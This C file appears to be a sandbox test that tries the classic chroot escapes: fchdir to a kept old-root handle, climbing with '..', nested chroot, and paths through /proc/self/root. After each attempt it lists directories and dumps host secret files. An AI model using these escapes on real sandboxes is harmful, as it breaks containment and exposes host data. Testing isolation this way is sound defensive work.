/* The classic chroot escapes: chroot into a subdirectory keeping a handle on
 * the old root, climb with "..", chroot("."); also through /proc/self/root.
 * argv: host paths of secret files. */
#include "atk.h"

int main(int argc, char **argv)
{
	char path[8192];

	mkdir("/box/jail", 0755);
	int old = open("/", O_RDONLY | O_DIRECTORY);
	try("chroot(/box/jail)", chroot("/box/jail"));
	try("fchdir(old root)", fchdir(old));
	for (int i = 0; i < 64; i++)
		chdir("..");
	try("chroot(.) after climbing", chroot("."));
	listdir("/");
	listdir(".");
	for (int i = 1; i < argc; i++) {
		dump(argv[i]);
		snprintf(path, sizeof(path), "/proc/self/root%s", argv[i]);
		dump(path);
	}
	/* A second chroot from inside a chroot, with the cwd outside it. */
	mkdir("/box/jail2", 0755);
	chdir("/box");
	try("chroot(jail2) with cwd outside", chroot("jail2"));
	for (int i = 0; i < 64; i++)
		chdir("..");
	listdir(".");
	done();
	return 0;
}
